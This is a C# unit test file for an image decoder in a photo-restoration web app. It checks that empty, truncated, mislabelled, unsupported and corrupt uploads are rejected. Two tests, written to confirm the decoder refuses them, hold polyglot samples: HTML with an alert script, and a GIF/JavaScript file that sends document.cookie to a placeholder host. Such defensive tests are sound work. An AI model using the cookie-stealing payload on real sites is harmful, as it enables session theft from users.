using System.Text;
using RestoreWeb.Inference.Imaging;
using SixLabors.ImageSharp.Formats;
using SixLabors.ImageSharp.Formats.Bmp;
using SixLabors.ImageSharp.Formats.Gif;
using SixLabors.ImageSharp.Formats.Jpeg;
using SixLabors.ImageSharp.Formats.Png;
using SixLabors.ImageSharp.Formats.Tiff;
using SixLabors.ImageSharp.Formats.Webp;

namespace RestoreWeb.Inference.Tests.Imaging;

public sealed class RejectionTests
{
    private readonly PhotoDecoder _decoder = new(TestImages.DefaultOptions);

    [Fact]
    public void A_zero_byte_file_is_empty()
    {
        var error = Reject([]);

        Assert.Equal(ImageRejectionReason.Empty, error.Reason);
        Assert.Contains("empty", error.Message, StringComparison.Ordinal);
    }

    public static TheoryData<string, double> Cuts => new()
    {
        { "jpeg", 0.5 },
        { "png", 0.5 },
        { "gif", 0.5 },
        { "bmp", 0.5 },
        { "tiff", 0.5 },
        { "webp", 0.5 },
        { "jpeg", 0.95 },
        { "png", 0.95 },
        { "bmp", 0.95 },
        { "webp", 0.95 },
    };

    [Theory]
    [MemberData(nameof(Cuts))]
    public void A_cut_off_file_is_truncated(string format, double keep)
    {
        using var source = TestImages.Gradient(64, 48);
        var full = TestImages.Encode(source, Encoder(format));
        var cut = full[..(int)(full.Length * keep)];

        var error = Reject(cut);

        Assert.Equal(ImageRejectionReason.Truncated, error.Reason);
        Assert.Contains("incomplete", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_jpeg_missing_only_its_end_marker_is_truncated()
    {
        // ImageSharp 2.1 decodes this without complaint, which is why the structure is checked first.
        using var source = TestImages.Gradient(64, 48);
        var full = TestImages.Encode(source, new JpegEncoder());
        Assert.Equal([0xFF, 0xD9], full[^2..]);

        var error = Reject(full[..^2]);

        Assert.Equal(ImageRejectionReason.Truncated, error.Reason);
        Assert.Equal("The JPEG file is incomplete: it ends before the image does, as happens when an upload or a copy is interrupted. Upload the original file again.", error.Message);
    }

    [Fact]
    public void A_png_without_its_iend_chunk_is_truncated()
    {
        using var source = TestImages.Gradient(64, 48);
        var full = TestImages.Encode(source, new PngEncoder());
        Assert.Equal("IEND", PngChunkTestTools.Chunks(full)[^1].Type);

        var error = Reject(full[..^12]);

        Assert.Equal(ImageRejectionReason.Truncated, error.Reason);
    }

    [Fact]
    public void A_file_that_ends_inside_the_signature_is_truncated()
    {
        Assert.Equal(ImageRejectionReason.Truncated, Reject([0x89, (byte)'P', (byte)'N', (byte)'G']).Reason);
        Assert.Equal(ImageRejectionReason.Truncated, Reject([0xFF, 0xD8]).Reason);
    }

    [Fact]
    public void Random_bytes_are_not_an_image()
    {
        var random = new byte[4096];
        new Random(1234).NextBytes(random);
        random[0] = 0x17; // no signature may start it by chance

        var error = Reject(random);

        Assert.Equal(ImageRejectionReason.NotAnImage, error.Reason);
        Assert.Contains("JPEG, PNG, TIFF, WebP, BMP or GIF", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_text_file_named_jpg_is_not_an_image()
    {
        string path = Path.Combine(Path.GetTempPath(), $"restoreweb-{Guid.NewGuid():N}.jpg");
        File.WriteAllText(path, "Grandma's wedding, June 1952. Scan to follow.\n");
        try
        {
            using var stream = File.OpenRead(path);
            var error = Assert.Throws<ImageRejectedException>(() => _decoder.Decode(stream));

            Assert.Equal(ImageRejectionReason.NotAnImage, error.Reason);
        }
        finally
        {
            File.Delete(path);
        }
    }

    [Fact]
    public void Text_that_starts_with_bm_is_not_taken_for_a_bitmap()
    {
        Assert.Equal(ImageRejectionReason.NotAnImage, Reject(Encoding.ASCII.GetBytes("BMW Isetta, 1957, in front of the house")).Reason);
    }

    [Fact]
    public void An_image_hidden_after_html_is_not_an_image()
    {
        using var source = TestImages.Gradient(32, 32);
        byte[] polyglot = [.. "<html><script>alert(1)</script>"u8, .. TestImages.Encode(source, new PngEncoder())];

        Assert.Equal(ImageRejectionReason.NotAnImage, Reject(polyglot).Reason);
    }

    [Fact]
    public void A_gif_signature_followed_by_script_is_refused_as_damaged()
    {
        // The classic GIF/JavaScript polyglot: a valid signature, then code where the GIF blocks should be.
        var polyglot = Encoding.ASCII.GetBytes("GIF89a/*\u0010\u0000\u0010\u0000\u0000\u0000*/=1;document.location='http://example.invalid/'+document.cookie;");

        var error = Reject(polyglot);

        Assert.Equal(ImageRejectionReason.Corrupt, error.Reason);
        Assert.Contains("GIF file is damaged", error.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("heic", "mif1")]
    [InlineData("mif1", "heic")]
    [InlineData("heix", "mif1")]
    [InlineData("msf1", "hevc")]
    [InlineData("hevc", "msf1")]
    public void Heic_is_recognised_and_refused_as_not_yet_supported(string major, string compatible)
    {
        var error = Reject(IsoMediaHeader(major, compatible));

        Assert.Equal(ImageRejectionReason.Unsupported, error.Reason);
        Assert.StartsWith("HEIC is not supported yet", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Avif_is_not_mistaken_for_heic()
    {
        var error = Reject(IsoMediaHeader("mif1", "avif"));

        Assert.Equal(ImageRejectionReason.Unsupported, error.Reason);
        Assert.StartsWith("AVIF is not supported yet", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void An_mp4_video_is_not_an_image()
    {
        Assert.Equal(ImageRejectionReason.NotAnImage, Reject(IsoMediaHeader("isom", "mp41")).Reason);
    }

    [Fact]
    public void Big_tiff_is_unsupported()
    {
        byte[] bigTiff = [(byte)'I', (byte)'I', 43, 0, 8, 0, 0, 0, 16, 0, 0, 0, 0, 0, 0, 0];

        Assert.Equal(ImageRejectionReason.Unsupported, Reject(bigTiff).Reason);
    }

    [Fact]
    public void A_complete_png_with_a_broken_chunk_structure_is_corrupt()
    {
        using var source = TestImages.Gradient(32, 32);
        var png = TestImages.Encode(source, new PngEncoder());
        // Damage the compressed pixels of the IDAT chunk while keeping its length, then re-sign it so that only
        // the content, not the CRC, is wrong.
        var chunks = PngChunkTestTools.Chunks(png);
        int idat = png.AsSpan().IndexOf("IDAT"u8);
        int length = chunks.First(c => c.Type == "IDAT").Data.Length;
        for (int i = idat + 6; i < idat + 4 + length; i++)
        {
            png[i] = 0xFF;
        }
        System.Buffers.Binary.BinaryPrimitives.WriteUInt32BigEndian(png.AsSpan(idat + 4 + length), PngChunkTestTools.Crc32(png.AsSpan(idat, 4 + length)));

        var error = Reject(png);

        Assert.Equal(ImageRejectionReason.Corrupt, error.Reason);
    }

    private ImageRejectedException Reject(byte[] file) => Assert.Throws<ImageRejectedException>(() => _decoder.Decode(file));

    /// <summary>The start of an ISO base media file: an ftyp box with a major and one compatible brand.</summary>
    private static byte[] IsoMediaHeader(string major, string compatible)
    {
        byte[] header = [0, 0, 0, 24, .. "ftyp"u8, .. Encoding.ASCII.GetBytes(major), 0, 0, 0, 0, .. Encoding.ASCII.GetBytes(compatible), .. "miaf"u8, 0, 0, 0, 0];
        return header;
    }

    private static IImageEncoder Encoder(string name) => name switch
    {
        "jpeg" => new JpegEncoder(),
        "png" => new PngEncoder(),
        "gif" => new GifEncoder(),
        "bmp" => new BmpEncoder { BitsPerPixel = BmpBitsPerPixel.Pixel24 },
        "tiff" => new TiffEncoder(),
        "webp" => new WebpEncoder { FileFormat = WebpFileFormatType.Lossy },
        _ => throw new ArgumentOutOfRangeException(nameof(name), name, null),
    };
}
